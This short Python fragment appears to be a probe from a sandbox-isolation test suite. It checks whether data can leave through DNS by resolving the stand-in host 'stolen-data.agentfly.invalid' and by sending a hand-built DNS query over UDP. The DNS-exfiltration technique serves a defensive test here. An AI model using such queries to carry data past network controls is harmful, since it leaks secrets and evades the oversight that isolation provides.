"""Ask for a name: the question itself carries data out."""

import struct

try_to("a name was resolved", socket.getaddrinfo, "stolen-data.agentfly.invalid", 80)
try_to("a name was resolved", socket.gethostbyname, "stolen-data.agentfly.invalid")
question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x06stolen\x07invalid\0" + struct.pack(">HH", 1, 1)
if one := quietly(socket.socket, socket.AF_INET, socket.SOCK_DGRAM):
    for port in (53, HOST["udp"]):
        quietly(one.sendto, question, ("127.0.0.1", port))
